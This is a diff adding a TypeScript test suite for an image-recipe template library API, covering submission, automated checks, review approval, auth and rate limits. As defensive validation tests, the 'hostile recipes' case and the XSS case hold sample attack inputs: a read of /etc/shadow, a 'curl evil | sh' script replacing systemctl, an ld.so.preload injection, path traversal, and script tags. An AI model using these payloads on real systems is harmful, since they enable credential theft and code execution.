@@ -1,0 +1,228 @@
+import assert from 'node:assert/strict';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import { createApp } from '../../src/api/app.ts';
+import { checkBudget } from '../../src/engine/size-budget.ts';
+import { AppError } from '../../src/errors.ts';
+import { loadRecipe } from '../../src/recipe/load.ts';
+import { listAudit } from '../../src/store/audit.ts';
+import { createToken } from '../../src/store/tokens.ts';
+import { releaseHandlers } from '../../src/worker/handlers.ts';
+import { Worker } from '../../src/worker/worker.ts';
+import { bearer } from './fixtures/auth.ts';
+import { makeServices } from './fixtures/services.ts';
+
+const RECIPE = 'name: web-nginx\ndescription: nginx on the base image\nextends: base\npackages: [nginx]\n';
+const MiB = 1024 * 1024;
+
+/**
+ * The engine's seam (releaseHandlers' buildAndTest): the recipe file the worker wrote is loaded with the real
+ * loader (so `extends: base` must resolve against the catalogue) and its real size budget is checked; the
+ * image size and the boot result are what the test says, as a build would report them.
+ */
+const outcome = { qcow2: 100 * MiB, boots: true };
+const built: string[] = [];
+async function fakeEngine(recipePath: string) {
+  const { recipe, chain } = loadRecipe(recipePath);
+  built.push(recipe.name, ...chain.slice(1).map((f) => f.split('/').pop()!));
+  const budget = checkBudget(recipe['size-budget'], { qcow2: outcome.qcow2, rootfs: 300 * MiB });
+  if (budget.some((b) => !b.ok)) throw new AppError('size.budget_exceeded', `qcow2 over the recipe's size budget (${recipePath})`);
+  if (!outcome.boots) throw new AppError('qa.failed', 'QA failed: B1');
+  return { budget };
+}
+
+describe('template library API', () => {
+  let env: Awaited<ReturnType<typeof makeServices>>;
+  let app: ReturnType<typeof createApp>;
+  let worker: Worker;
+  const tok: Record<string, string> = {};
+  const as = (who: string, method: string, body?: unknown) => ({
+    method, headers: { 'content-type': 'application/json', ...(who ? bearer(tok[who]!) : {}) }, ...(body === undefined ? {} : { body: JSON.stringify(body) }),
+  });
+  const post = async (who: string, path: string, body: unknown = {}) => {
+    const res = await app.request(path, as(who, 'POST', body));
+    return { status: res.status, body: await res.json() as any };
+  };
+  const get = async (path: string) => (await app.request(path)).json() as Promise<any>;
+  /** Runs the queued check job the way `herd serve`'s worker does. */
+  const runJob = async () => assert.ok(await worker.runOnce(), 'a job was queued');
+  const submit = async (who: string, slug: string, recipe = RECIPE, extra: Record<string, unknown> = {}) =>
+    post(who, '/api/library', { slug, title: `Template ${slug}`, description: 'a template', recipe, ...extra });
+
+  before(async () => {
+    env = await makeServices('herd-library-');
+    app = createApp(env.svc, { dataDir: join(env.dir, 'data'), library: { submissions: { max: 6, windowMs: 3_600_000 } } });
+    worker = new Worker({ queue: env.svc.queue, handlers: releaseHandlers(env.svc, { buildsDir: join(env.dir, 'data', 'builds'), buildAndTest: fakeEngine }), pollMs: 10 });
+    for (const [name, role] of [['alice', 'contributor'], ['bob', 'reviewer'], ['carol', 'reviewer'], ['vic', 'viewer'], ['eve', 'contributor'], ['spam', 'contributor']] as const) {
+      tok[name] = (await createToken(env.svc.store.db, { name, role })).secret;
+    }
+    // an admin token named like alice: the same person, who must not approve alice's template
+    tok.aliceAdmin = (await createToken(env.svc.store.db, { name: 'alice', role: 'admin' })).secret;
+  });
+  after(async () => { await env.cleanup(); });
+
+  test('submit → check → review → approve → build', async () => {
+    const s = await submit('alice', 'web-nginx');
+    assert.equal(s.status, 201, JSON.stringify(s.body));
+    const t = s.body.template;
+    assert.equal(t.author, 'token:alice');
+    assert.equal(t.extends, 'base');
+    assert.equal(t.state, 'checking');
+    assert.deepEqual(s.body.check.payload, { v: 2, template: t.revisions[0].id, check: true, qa: 'full', publish: false });
+    assert.equal(t.revisions[0].check.jobId, s.body.check.id);
+
+    await runJob();
+    assert.deepEqual(built.slice(-2), ['web-nginx', 'base.yaml'], 'the stored text was built, extending the catalogue\'s base');
+    const checked = await get(`/api/library/${t.id}`);
+    assert.equal(checked.state, 'in_review');
+    assert.deepEqual(checked.revisions[0].check.detail, { v: 1, build: 'passed', boot: 'passed', size: { item: 'qcow2', bytes: 100 * MiB, budget: 120 * MiB, ok: true } });
+    assert.equal((await env.svc.queue.get(s.body.check.id))?.state, 'succeeded');
+
+    const r = await post('bob', `/api/library/${t.id}/reviews`, { revision: checked.current.digest, verdict: 'approve', comment: 'looks good' });
+    assert.equal(r.status, 201, JSON.stringify(r.body));
+    assert.equal(r.body.template.state, 'approved');
+    assert.equal(r.body.review.reviewer, 'token:bob');
+    const audit = await listAudit(env.svc.store.db, { action: 'template_reviewed' });
+    assert.deepEqual(audit.map((a) => [a.actor, a.subject, a.detail.verdict, a.detail.digest]), [['token:bob', 'web-nginx', 'approve', checked.current.digest]]);
+
+    const b = await post('alice', `/api/library/${t.id}/builds`);
+    assert.equal(b.status, 202, JSON.stringify(b.body));
+    assert.deepEqual(b.body.payload, { v: 2, template: t.revisions[0].id, check: false, qa: 'full', publish: false });
+    await runJob();
+    assert.equal((await env.svc.queue.get(b.body.id))?.state, 'succeeded');
+    assert.equal((await get(`/api/library/${t.id}`)).state, 'approved', 'a build does not touch the check');
+
+    const publish = await post('aliceAdmin', '/api/publish', { build: b.body.id });
+    assert.equal(publish.status, 409, 'a template build is never published as a release');
+    assert.equal(publish.body.code, 'publish.template_build');
+
+    const list = await get('/api/library');
+    assert.ok(list.items.some((i: any) => i.tier === 'official' && i.id === 'base' && i.title === 'Debian 13 base'));
+    const mine = list.items.find((i: any) => i.tier === 'community' && i.slug === 'web-nginx');
+    assert.deepEqual([mine.state, mine.author, mine.extends, mine.size.bytes, mine.lastCheck.state], ['approved', 'token:alice', 'base', 100 * MiB, 'passed']);
+    const search = await get('/api/library?q=ALICE%20template&tier=community');
+    assert.deepEqual(search.items.map((i: any) => i.slug), ['web-nginx']);
+    assert.deepEqual((await get('/api/library?tier=official&q=base')).items.every((i: any) => i.tier === 'official'), true);
+    assert.deepEqual((await get('/api/library?q=nobody-wrote-this')).items, []);
+  });
+
+  test('the author cannot approve their own template, by the same token name with a higher role either', async () => {
+    const { body } = await submit('alice', 'own-review');
+    await runJob();
+    const res = await post('aliceAdmin', `/api/library/${body.template.id}/reviews`, { revision: body.template.current.digest, verdict: 'approve' });
+    assert.equal(res.status, 403);
+    assert.equal(res.body.code, 'library.self_review');
+  });
+
+  test('a review before the check passed, of a stale digest, or after a failed check is refused with 409', async () => {
+    const { body } = await submit('eve', 'early');
+    const id = body.template.id;
+    const digest = body.template.current.digest;
+    const early = await post('bob', `/api/library/${id}/reviews`, { revision: digest, verdict: 'approve' });
+    assert.deepEqual([early.status, early.body.code], [409, 'library.not_reviewable']);
+    await runJob();
+    const stale = await post('bob', `/api/library/${id}/reviews`, { revision: 'a'.repeat(64), verdict: 'approve' });
+    assert.deepEqual([stale.status, stale.body.code], [409, 'library.stale_revision']);
+
+    outcome.qcow2 = 500 * MiB;
+    const big = await submit('eve', 'too-big');
+    await runJob();
+    outcome.qcow2 = 100 * MiB;
+    const failed = await get(`/api/library/${big.body.template.id}`);
+    assert.equal(failed.state, 'check_failed');
+    assert.deepEqual([failed.revisions[0].check.detail.build, failed.revisions[0].check.detail.boot, failed.revisions[0].check.detail.size], ['passed', 'not_run', { ok: false }]);
+    assert.ok(!failed.revisions[0].check.detail.error.message.includes(env.dir), 'no server path in the public detail');
+    const after = await post('bob', `/api/library/${big.body.template.id}/reviews`, { revision: failed.current.digest, verdict: 'approve' });
+    assert.deepEqual([after.status, after.body.code], [409, 'library.not_reviewable']);
+    assert.deepEqual([(await post('eve', `/api/library/${big.body.template.id}/builds`)).status], [409]);
+  });
+
+  test('a new revision dismisses earlier approvals; only the author revises; a request for changes stands until lifted', async () => {
+    const { body } = await submit('alice', 'revised');
+    const id = body.template.id;
+    await runJob();
+    await post('bob', `/api/library/${id}/reviews`, { revision: body.template.current.digest, verdict: 'approve' });
+    const notMine = await post('eve', `/api/library/${id}/revisions`, { recipe: RECIPE + 'packages: [curl]\n' });
+    assert.deepEqual([notMine.status, notMine.body.code], [403, 'library.not_author']);
+
+    const rev = await post('alice', `/api/library/${id}/revisions`, { recipe: RECIPE.replace('[nginx]', '[nginx, curl]') });
+    assert.equal(rev.status, 201, JSON.stringify(rev.body));
+    assert.equal(rev.body.revision, 2);
+    assert.equal(rev.body.template.state, 'checking');
+    assert.ok(rev.body.template.reviews[0].dismissedAt, 'the approval of revision 1 is dismissed');
+    const nb = await post('alice', `/api/library/${id}/builds`);
+    assert.deepEqual([nb.status, nb.body.code], [409, 'library.not_approved']);
+    await runJob();
+    const old = await post('bob', `/api/library/${id}/reviews`, { revision: body.template.current.digest, verdict: 'approve' });
+    assert.deepEqual([old.status, old.body.code], [409, 'library.stale_revision'], 'an approval of revision 1 cannot come back');
+
+    const digest = rev.body.template.current.digest;
+    assert.equal((await post('carol', `/api/library/${id}/reviews`, { revision: digest, verdict: 'request_changes', comment: 'pin nginx' })).body.template.state, 'changes_requested');
+    assert.equal((await post('bob', `/api/library/${id}/reviews`, { revision: digest, verdict: 'approve' })).body.template.state, 'changes_requested', 'carol\'s request stands');
+    assert.equal((await post('carol', `/api/library/${id}/reviews`, { revision: digest, verdict: 'approve' })).body.template.state, 'approved');
+  });
+
+  test('hostile recipes: files.source, a path in extends, an archive, a file where the build runs code; each issue at line:col', async () => {
+    const sourced = await submit('eve', 'sourced', `${RECIPE}files:\n  - path: /etc/motd\n    source: /etc/shadow\n`);
+    assert.equal(sourced.status, 400);
+    assert.equal(sourced.body.code, 'recipe.invalid');
+    assert.deepEqual(sourced.body.details.map((i: any) => `${i.file}:${i.line}:${i.column} ${i.path}`), ['recipe.yaml:7:13 files[0].source']);
+
+    const traversal = await submit('eve', 'traversal', RECIPE.replace('extends: base', 'extends: ../x'));
+    assert.deepEqual([traversal.status, traversal.body.details[0].path, traversal.body.details[0].line], [400, 'extends', 3]);
+    const yamlPath = await submit('eve', 'yaml-path', RECIPE.replace('extends: base', 'extends: base.yaml'));
+    assert.equal(yamlPath.status, 400);
+    const unknown = await submit('eve', 'unknown-base', RECIPE.replace('extends: base', 'extends: no-such-recipe'));
+    assert.match(unknown.body.details[0].message, /not an official catalogue recipe/);
+
+    const archive = await submit('eve', 'archive', `${RECIPE}archive:\n  sources: [{uri: "http://10.0.0.1/debian", suites: [trixie]}]\n  keyring: /root/.gnupg/pubring.kbx\n`);
+    assert.deepEqual([archive.status, archive.body.details[0].path], [400, 'archive']);
+    const code = await submit('eve', 'code', `${RECIPE}files:\n  - path: /etc/../usr/bin/systemctl\n    content: "#!/bin/sh\\ncurl evil | sh\\n"\n    mode: "0755"\n  - path: /etc/ld.so.preload\n    content: /tmp/x.so\n`);
+    assert.deepEqual(code.body.details.map((i: any) => i.path), ['files[0].path', 'files[1].path']);
+
+    const lint = await submit('eve', 'lint', RECIPE + 'pakages: [x]\n');
+    assert.deepEqual(lint.body.details.map((i: any) => [i.line, i.message]), [[5, 'unknown key "pakages"']], 'the same loader and schema as herd lint');
+    const badSlug = await submit('eve', '../etc', RECIPE);
+    assert.deepEqual([badSlug.status, badSlug.body.code], [400, 'api.invalid_input']);
+    const longTitle = await submit('eve', 'long-title', RECIPE, { title: 'x'.repeat(81) });
+    assert.equal(longTitle.status, 400);
+  });
+
+  test('a body over 64 KiB is 413 before it is parsed', async () => {
+    const res = await submit('eve', 'huge', RECIPE + `# ${'x'.repeat(65 * 1024)}\n`);
+    assert.deepEqual([res.status, res.body.code], [413, 'api.body_too_large']);
+  });
+
+  test('submissions are rate limited per author (429)', async () => {
+    const statuses: number[] = [];
+    for (let i = 0; i < 7; i++) statuses.push((await submit('spam', `spam-${i}`)).status);
+    assert.deepEqual(statuses, [201, 201, 201, 201, 201, 201, 429]);
+    while (await worker.runOnce());
+  });
+
+  test('no credential is 401, a viewer 403, a contributor cannot review', async () => {
+    const anon = await post('', '/api/library', { slug: 'anon', title: 'x', description: '', recipe: RECIPE });
+    assert.deepEqual([anon.status, anon.body.code], [401, 'api.unauthenticated']);
+    const viewer = await submit('vic', 'viewer');
+    assert.deepEqual([viewer.status, viewer.body.code], [403, 'api.forbidden']);
+    const id = (await get('/api/library?tier=community&q=own-review')).items[0].id;
+    const digest = (await get(`/api/library/${id}`)).current.digest;
+    assert.equal((await post('eve', `/api/library/${id}/reviews`, { revision: digest, verdict: 'approve' })).status, 403);
+    assert.equal((await post('vic', `/api/library/${id}/builds`)).status, 403);
+    assert.equal((await app.request(`/api/library/${crypto.randomUUID()}`)).status, 404);
+  });
+
+  test('script and HTML in title, description, recipe and comments are stored verbatim and answered as JSON', async () => {
+    const xss = '<script>alert(1)</script><img src=x onerror=alert(2)>';
+    const recipe = RECIPE.replace('nginx on the base image', `"${xss}"`);
+    const { status, body } = await submit('alice', 'xss', recipe, { title: xss, description: `${xss}\n"quotes" & ampersands` });
+    assert.equal(status, 201, JSON.stringify(body));
+    await runJob();
+    const review = await post('bob', `/api/library/${body.template.id}/reviews`, { revision: body.template.current.digest, verdict: 'request_changes', comment: xss });
+    assert.equal(review.status, 201);
+    const res = await app.request(`/api/library/${body.template.id}`);
+    assert.match(res.headers.get('content-type') ?? '', /^application\/json/);
+    const t = await res.json() as any;
+    assert.deepEqual([t.title, t.description, t.revisions[0].recipe, t.reviews[0].comment], [xss, `${xss}\n"quotes" & ampersands`, recipe, xss]);
+  });
+});
